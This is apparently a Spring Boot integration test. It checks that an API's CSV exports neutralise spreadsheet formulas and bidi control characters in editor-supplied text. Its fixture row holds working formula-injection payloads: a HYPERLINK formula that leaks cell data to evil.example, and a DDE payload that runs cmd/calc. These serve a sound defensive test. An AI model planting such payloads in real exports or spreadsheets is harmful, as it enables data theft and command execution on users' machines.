package org.a6portal.api;

import java.util.List;

import org.a6portal.support.IntegrationTest;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.test.web.servlet.assertj.MockMvcTester;
import org.springframework.transaction.annotation.Transactional;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Editors' text that a spreadsheet would run as a formula, or that hides behind bidi controls, leaves the CSV
 * exports harmless: the list export and the country export alike.
 */
@IntegrationTest
class CsvExportIntegrationTests {

	@Autowired
	private MockMvcTester mvc;

	@Autowired
	private JdbcClient jdbc;

	@Test
	@Transactional
	void formulasAndBidiControlsInAnApproachAreNeutralisedInEveryExportOfIt() {
		long approach = this.jdbc.sql("""
				INSERT INTO cooperative_approach (slug, title, instrument, status, publication_status, description,
				    notes, sector_scope, source_url, source_title, source_retrieved_on, last_reviewed_on)
				VALUES ('ca-formula-aq', '=HYPERLINK("https://evil.example/?"&A1,"Open")', 'mou', 'mou_signed',
				        'published', '@SUM(1+1)*cmd|'' /C calc''!A0', '-2+3', E'\\tspread\\u202Eover', 'https://example.org/s',
				        '+source title', DATE '2026-01-01', DATE '2026-01-01')
				RETURNING id""").query(Long.class).single();
		this.jdbc.sql("INSERT INTO cooperative_approach_party VALUES (?, 'AQ', 'transferring'), (?, 'JP', 'acquiring')")
			.params(approach, approach)
			.update();

		for (String uri : List.of("/api/v1/cooperative-approaches.csv", "/api/v1/countries/aq.csv")) {
			ApiResults.Csv csv = ApiResults.csv(this.mvc.get().uri(uri).exchange());
			CSVRecord row = csv.rows().stream().filter((record) -> record.get("id").equals("ca-formula-aq")).findFirst().orElseThrow();
			assertThat(row.get("title")).as(uri).isEqualTo("'=HYPERLINK(\"https://evil.example/?\"&A1,\"Open\")");
			assertThat(row.get("description")).as(uri).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
			assertThat(row.get("notes")).as(uri).isEqualTo("'-2+3");
			assertThat(row.get("sector_scope")).as(uri).isEqualTo("'\tspreadover");
			assertThat(row.get("source_title")).as(uri).isEqualTo("'+source title");
			for (String cell : row.values()) {
				assertThat(cell).as(uri).doesNotContain("\u202E").satisfies((text) -> assertThat(
						text.isEmpty() || "=+-@\t\r".indexOf(text.charAt(0)) < 0).as("%s starts a formula", text).isTrue());
			}
		}
	}

}
